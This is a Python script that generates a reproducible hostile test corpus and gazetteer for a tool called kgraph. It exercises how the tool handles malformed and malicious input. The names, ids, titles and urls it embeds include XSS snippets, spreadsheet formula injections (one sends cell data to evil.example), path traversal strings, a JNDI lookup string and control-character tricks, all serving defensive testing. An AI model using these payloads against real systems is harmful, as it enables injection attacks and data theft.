"""kgraph's hostile test corpus, made by code so that every byte is reproducible.

    python tests/hostile/make_hostile.py            # (re)writes tests/hostile/corpus/ and gazetteer.jsonl

``corpus/`` is one input directory (its ``.txt`` and ``.jsonl`` files) mixing good
documents, whose actors have hostile names and whose ids, titles, dates and urls are
hostile, with bad documents of every kind kgraph must refuse by name.  The names come
from ``gazetteer.jsonl`` (pass it with ``--gazetteer``): each entry has a hostile
``name`` and a plain alias that the texts use, so every hostile name surely becomes an
actor.  ``tests/test_hostile.py`` runs the whole CLI over it and checks that the files
on disk are what this script writes.  Big inputs (a 50 MB single line) and hostile file
names are made at test time, not kept here.
"""

from __future__ import annotations

import codecs
import json
import sys
from pathlib import Path

HERE = Path(__file__).resolve().parent

#: Gazetteer id -> (hostile name, the plain alias the texts use).  Ids are hostile too.
NAMES: dict[str, tuple[str, str]] = {
    "HX-ANGLE": ('<script>alert("xss")</script> & <b>Co</b>', "Scriptfront"),
    "HX-TURTLE": (
        'The "Quoted" {Brigade} \\ ^ ` | ~ """ ; . @prefix x: <http://evil/> .',
        "Quotebrigade",
    ),
    "HX-IRI": ("http://evil.example/a b<c>#frag _:b0 urn:x", "Iriforce"),
    "HX-LINES": ("Line\nBreak\r\nArmy\tof\u2028the\u2029North\x85\x0b\x0c\x1c", "Linebreakers"),
    "HX-CONTROL": ("Ctrl\x00\x01\x07\x1b[31mRed\x1b[0m\x7f\x9f Front", "Ctrlfront"),
    "HX-RTL": ("حركة \u202eevil\u202c המחתרת \u2067Front\u2069", "Rtlmovement"),
    "HX-EMOJI": ("🔥 Fire 👨\u200d👩\u200d👧 Brigade 🇺🇦\ufeff\u200b\ufffd", "Firebrigadiers"),
    "HX-LONG": ("The " + "Very " * 1999 + "!", "Longforce"),  # a 10,000-character name
    "=HX-FORMULA": ('=HYPERLINK("http://evil.example/?"&A1,"click")', "Formulists"),
    "+HX-PLUS": ("+1+cmd|' /C calc'!A0", "Plusgroup"),
    "-HX-MINUS": ("-2+3", "Minusgroup"),
    "@HX-AT": ("@SUM(1+1)*cmd|' /C calc'!A0", "Atgroup"),
    "HX-TAB": ("\t=1+2", "Tabgroup"),
    "../../etc/passwd": ("%2e%2e%2f..\\..\\windows\\system32 ${jndi:ldap://x}", "Dotdotters"),
}
assert len(NAMES["HX-LONG"][0]) == 10_000

#: The texts of the good documents: every alias acts on another one.
SENTENCES = [
    "Scriptfront attacked Quotebrigade on Monday.",
    "Iriforce fired rockets at Linebreakers.",
    "Ctrlfront accused Rtlmovement of killing 12 civilians.",
    "Firebrigadiers met Longforce in Cairo.",
    "Formulists attacked Plusgroup.",
    "Minusgroup accused Atgroup of the bombing.",
    "Tabgroup met Dotdotters in Doha.",
]

#: Good documents: file -> ids of the documents it holds (in order).
GOOD: dict[str, list[str]] = {}
#: Bad documents: origin (file, or file:line) -> words of the reason kgraph gives.
BAD: dict[str, str] = {}

_PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 4


def _jsonl(*records: object) -> bytes:
    return "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records).encode("utf-8")


def corpus() -> dict[str, bytes]:
    """File name -> bytes of every file in ``corpus/`` (and fills GOOD and BAD)."""
    GOOD.clear()
    BAD.clear()
    files: dict[str, bytes] = {}

    # -- good: hostile names, ids, titles, dates and urls
    hostile_ids = [
        "../../etc/passwd",
        "<script>alert(1)</script>",
        "=cmd|' /C calc'!A0",
        "id\nwith\r\nlines\x1b[2J\x00",
        "/abs/path/..\\..\\C:\\x",
        "CON",
        "..",
        "💥\u202eevil",
        "x" * 10_000,
        "  spaced  ",
        "42",
    ]
    records = []
    for i, doc_id in enumerate(hostile_ids):
        records.append(
            {
                "id": doc_id,
                "text": SENTENCES[i % len(SENTENCES)] + " " + SENTENCES[(i + 3) % len(SENTENCES)],
                "title": ['<img src=x onerror="alert(1)">', "-1+1", "T\x00\n\u2028itle", None][
                    i % 4
                ],
                "date": ["2021-05-20", "2021-02-30", "<b>today</b>", "99999-99", "", None][i % 6],
                "url": ["javascript:alert(1)", 'http://x/<>"{}|\\^`', "=1+1", None][i % 4],
            }
        )
    records[-1]["id"] = 42  # a numeric id
    files["names.jsonl"] = _jsonl(*records)
    GOOD["names.jsonl"] = [str(r["id"]) for r in records]

    files["all-names.txt"] = (" ".join(SENTENCES) + "\n").encode("utf-8")
    GOOD["all-names.txt"] = ["all-names"]
    files["rtl-emoji.txt"] = (
        "مرحبا بالعالم. שלום עולם. 🔥🔥🔥 Firebrigadiers met Longforce in Cairo. \u202e"
        "Ctrlfront accused Rtlmovement of killing 12 civilians.\u202c\n"
    ).encode("utf-8")
    GOOD["rtl-emoji.txt"] = ["rtl-emoji"]
    files["utf16-bom.txt"] = codecs.BOM_UTF16_LE + SENTENCES[0].encode("utf-16-le")
    GOOD["utf16-bom.txt"] = ["utf16-bom"]
    files["utf8-bom.txt"] = codecs.BOM_UTF8 + SENTENCES[1].encode("utf-8")
    GOOD["utf8-bom.txt"] = ["utf8-bom"]
    files["crlf-tabs.txt"] = (
        b"Formulists\tattacked Plusgroup.\r\n\f\x1b[0mTabgroup met Dotdotters.\r\n"
    )
    GOOD["crlf-tabs.txt"] = ["crlf-tabs"]
    files["page.txt"] = (  # an HTML page: its tags are stripped, its scripts dropped
        b"<!DOCTYPE html><html><head><title>News</title><script>alert('page')</script>"
        b"<style>p{color:red}</style></head><body><p>Scriptfront attacked Quotebrigade "
        b"&amp; <b>Iriforce</b> fired rockets at Linebreakers.</p>"
        b"<img src=x onerror=\"alert('img')\"><noscript>noscript text</noscript></body></html>"
    )
    GOOD["page.txt"] = ["page"]

    # -- bad: one file each
    files["empty.txt"] = b""
    BAD["empty.txt"] = "empty file"
    files["whitespace.txt"] = b" \t\r\n\n   \n"
    BAD["whitespace.txt"] = "only whitespace"
    files["binary.txt"] = _PNG
    BAD["binary.txt"] = "binary file"
    files["nul-bytes.txt"] = b"Scriptfront\x00attacked\x00\x00Quotebrigade" + b"\x00" * 64
    BAD["nul-bytes.txt"] = "binary file"
    files["latin1.txt"] = "Café: Scriptfront attacked Quotebrigade in Jérusalem.".encode("latin-1")
    BAD["latin1.txt"] = "not UTF-8"
    files["bad-utf16.txt"] = codecs.BOM_UTF16_LE + "Scriptfront".encode("utf-16-le") + b"\x00\xd8A"
    BAD["bad-utf16.txt"] = "not UTF-16"
    files["blank.jsonl"] = b"\n \n\t\n"
    BAD["blank.jsonl"] = "no records"
    files["zz-html-only.txt"] = b"<!doctype html><html><script>alert(1)</script><p> </p></html>"
    BAD["zz-html-only.txt"] = "only whitespace"

    # -- a JSONL corpus with good and bad lines
    lines = [
        (json.dumps({"id": "ok-1", "text": SENTENCES[4]}), None),
        ('{"id": "bad-json", "text": "unquoted: ' + SENTENCES[0] + "}", "not valid JSON"),
        (json.dumps({"id": "no-text", "body": SENTENCES[1]}), 'no "text" field'),
        (json.dumps({"id": "text-null", "text": None}), "must be a string"),
        (json.dumps({"id": "text-list", "text": [SENTENCES[2]]}), "must be a string"),
        (json.dumps({"id": "empty-text", "text": ""}), "is empty"),
        (json.dumps({"id": "blank-text", "text": " \n\t "}), "is empty"),
        (json.dumps({"id": ["list-id"], "text": SENTENCES[3]}), '"id" must be'),
        (json.dumps({"id": True, "text": SENTENCES[3]}), '"id" must be'),
        (json.dumps({"id": "", "text": SENTENCES[3]}), '"id" is empty'),
        (json.dumps([{"id": "in-a-list", "text": SENTENCES[3]}]), "JSON list"),
        ('"just a string"', "JSON string"),
        ("null", "JSON null"),
        ("{}", 'no "text" field'),
        (json.dumps({"id": "ok-1", "text": SENTENCES[5]}), 'duplicate id "ok-1"'),
        (json.dumps({"id": "surrogate", "text": "Scriptfront \ud800 attacked."}), "surrogate"),
        (
            json.dumps({"id": "title-obj", "text": SENTENCES[5], "title": {"a": 1}}),
            "must be a string",
        ),
        (json.dumps({"id": "ok-2", "text": SENTENCES[6], "extra": {"nested": [1, 2]}}), None),
        ("\x00\x01\x02 garbage \xff", "not UTF-8"),  # bytes, see below
        ("[" * 5000 + "]" * 5000, "nested too deeply"),
        ('{"id": 1' + "0" * 5000 + ', "text": "A number too long for Python."}', "4,300 digits"),
        (json.dumps({"id": "ok-3", "text": SENTENCES[0]}), None),
        ('{"id": "truncated", "text": "Scriptfront attacked Quotebri', "not valid JSON"),
    ]
    raw = b""
    for n, (line, reason) in enumerate(lines, 1):
        if line.startswith("\x00"):
            data = b"\x00\x01\x02 garbage \xff\xfe\n"
        else:
            data = line.encode("utf-8", "surrogatepass") + (b"\n" if n < len(lines) else b"")
        raw += data
        if reason is None:
            GOOD.setdefault("records.jsonl", []).append(json.loads(line)["id"])
        else:
            BAD[f"records.jsonl:{n}"] = reason
    files["records.jsonl"] = raw
    return files


def gazetteer() -> bytes:
    """The hostile gazetteer (raw U+2028 and friends included: JSON allows them)."""
    return _jsonl(
        *(
            {
                "id": gid,
                "name": name,
                "type": "armed_group",
                "country": None,
                "sector": "REB",
                "wikidata": None,
                "aliases": [alias],
                "demonyms": [],
                "people": [],
            }
            for gid, (name, alias) in NAMES.items()
        )
    )


def write(directory: Path = HERE) -> None:
    """Write ``corpus/`` and ``gazetteer.jsonl`` into ``directory``."""
    out = directory / "corpus"
    out.mkdir(parents=True, exist_ok=True)
    files = corpus()
    for old in out.iterdir():
        if old.name not in files:
            old.unlink()
    for name, data in files.items():
        (out / name).write_bytes(data)
    (directory / "gazetteer.jsonl").write_bytes(gazetteer())


if __name__ == "__main__":
    write(Path(sys.argv[1]) if len(sys.argv) > 1 else HERE)
